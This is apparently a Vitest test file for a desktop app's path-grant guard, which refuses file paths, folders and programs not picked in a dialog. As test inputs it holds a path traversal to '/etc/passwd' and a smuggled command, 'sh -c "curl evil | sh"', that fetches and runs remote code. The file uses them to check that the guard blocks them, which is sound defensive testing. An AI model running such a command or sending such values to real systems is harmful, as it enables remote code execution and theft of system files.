import { describe, expect, it } from 'vitest';
import { channelNames } from '../../../../src/shared/channels.ts';
import { contract, pathArguments } from '../../../../src/shared/contract.ts';
import { PathGrants } from '../../../../src/main/shell/path-grants.ts';

const win = 7;
const other = 8;

describe('path grants', () => {
  it('refuses a path no dialog granted, naming the channel, the field and the path', () => {
    const grants = new PathGrants();
    const refusal = grants.refusal(win, 'importDataset', { path: '/etc/passwd', format: 'raw' });
    expect(refusal?.code).toBe('PATH_NOT_GRANTED');
    expect(refusal?.message).toContain("importDataset: path '/etc/passwd' was not chosen in an open-file dialog");
  });

  it('lets a granted path through, for its window and its purpose only', () => {
    const grants = new PathGrants();
    grants.grant(win, '/data/rml.pkl', 'open-file');
    grants.grant(win, '/out/model.onnx', 'save');
    expect(grants.refusal(win, 'importDataset', { path: '/data/rml.pkl' })).toBeNull();
    expect(grants.refusal(other, 'importDataset', { path: '/data/rml.pkl' })?.code).toBe('PATH_NOT_GRANTED');
    // a file picked to be written is not thereby readable, nor the other way round
    expect(grants.refusal(win, 'importDataset', { path: '/out/model.onnx' })?.code).toBe('PATH_NOT_GRANTED');
    expect(grants.refusal(win, 'startExport', { modelId: 1, format: 'onnx', outPath: '/data/rml.pkl', overwrite: true })?.message).toContain('save dialog');
    expect(grants.refusal(win, 'startExport', { modelId: 1, format: 'onnx', outPath: '/out/model.onnx' })).toBeNull();
    expect(grants.refusal(win, 'startDatasetExport', { datasetId: 1, format: 'npz', outPath: '/out/model.onnx' })).toBeNull();
  });

  it('compares normalised absolute paths: a detour through .. is the path it leads to', () => {
    const grants = new PathGrants();
    grants.grant(win, '/data/sets/rml.pkl', 'open-file');
    expect(grants.refusal(win, 'importDataset', { path: '/data/sets/../sets/./rml.pkl' })).toBeNull();
    expect(grants.refusal(win, 'importDataset', { path: '/data/sets/rml.pkl/../../../etc/passwd' })?.code).toBe('PATH_NOT_GRANTED');
    expect(grants.refusal(win, 'importDataset', { path: '/data/sets' })?.code).toBe('PATH_NOT_GRANTED');
  });

  it('asks a local cluster work folder for a folder grant, not a remote one', () => {
    const grants = new PathGrants();
    const work = { kind: 'train', datasetId: 1, architecture: 'vt', epochs: 1, batchSize: 8, learningRate: 0.001 };
    expect(grants.refusal(win, 'submitToCluster', { work, target: { workdir: '/home/me' } })?.message).toContain("target.workdir '/home/me' was not chosen in a choose-folder dialog");
    expect(grants.refusal(win, 'submitToCluster', { work, target: { workdir: '/scratch/me', ssh: 'me@login' } })).toBeNull();
    grants.grant(win, '/home/me', 'open-folder');
    expect(grants.refusal(win, 'submitToCluster', { work, target: { workdir: '/home/me' } })).toBeNull();
  });

  it('asks the program a local cluster runs for a choose-program grant, not a remote one', () => {
    const grants = new PathGrants();
    const work = { kind: 'train', datasetId: 1, architecture: 'vt', epochs: 1, batchSize: 8, learningRate: 0.001 };
    grants.grant(win, '/home/me', 'open-folder');
    const local = (amrStudio: string) => grants.refusal(win, 'submitToCluster', { work, target: { workdir: '/home/me', amrStudio } });
    expect(local('sh -c "curl evil | sh"')?.message).toContain("target.amrStudio 'sh -c \"curl evil | sh\"' was not chosen in a choose-program dialog");
    grants.grant(win, '/opt/amr studio/amr-studio', 'open-file');
    expect(local('/opt/amr studio/amr-studio')?.code).toBe('PATH_NOT_GRANTED');
    grants.grant(win, '/opt/amr studio/amr-studio', 'run');
    expect(local('/opt/amr studio/amr-studio')).toBeNull();
    expect(grants.refusal(win, 'submitToCluster', { work, target: { workdir: '/scratch/me', ssh: 'me@login', amrStudio: 'module load amr && amr-studio' } })).toBeNull();
  });

  it('forgets a closed window', () => {
    const grants = new PathGrants();
    grants.grant(win, '/data/rml.pkl', 'open-file');
    grants.forgetWindow(win);
    expect(grants.isGranted(win, '/data/rml.pkl', 'open-file')).toBe(false);
  });

  it('leaves channels without paths and arguments that fail their schema to the dispatcher', () => {
    const grants = new PathGrants();
    expect(grants.refusal(win, 'listDatasets', {})).toBeNull();
    expect(grants.refusal(win, 'importDataset', { path: 42 })).toBeNull();
    expect(contract.importDataset.input.safeParse({ path: 42 }).success).toBe(false);
  });

  it('covers every channel whose argument names a local path', () => {
    // a new path-like field must be added to pathArguments (or be shown to be remote) on purpose
    const pathLike = /(^|\.)(path|outPath|workdir|dir|file|folder)$/i;
    const found: string[] = [];
    const walk = (schema: unknown, prefix: string, channel: string): void => {
      const shape = (schema as { shape?: Record<string, unknown> }).shape;
      if (shape) for (const [k, v] of Object.entries(shape)) walk(v, prefix ? `${prefix}.${k}` : k, channel);
      const inner = (schema as { def?: { innerType?: unknown; options?: unknown[] } }).def;
      if (inner?.innerType) walk(inner.innerType, prefix, channel);
      for (const o of inner?.options ?? []) walk(o, prefix, channel);
      if (!shape && pathLike.test(prefix)) found.push(`${channel}:${prefix}`);
    };
    for (const name of channelNames) walk(contract[name].input, '', name);
    expect([...new Set(found)].sort()).toEqual(['importDataset:path', 'startDatasetExport:outPath', 'startExport:outPath', 'submitToCluster:target.workdir']);
    expect(pathArguments.submitToCluster?.({ work: { kind: 'train' }, target: { workdir: '/w', amrStudio: '/p' } } as never).map((p) => p.field)).toEqual([
      'target.workdir',
      'target.amrStudio',
    ]);
    expect(Object.keys(pathArguments).sort()).toEqual(['importDataset', 'startDatasetExport', 'startExport', 'submitToCluster']);
  });
});
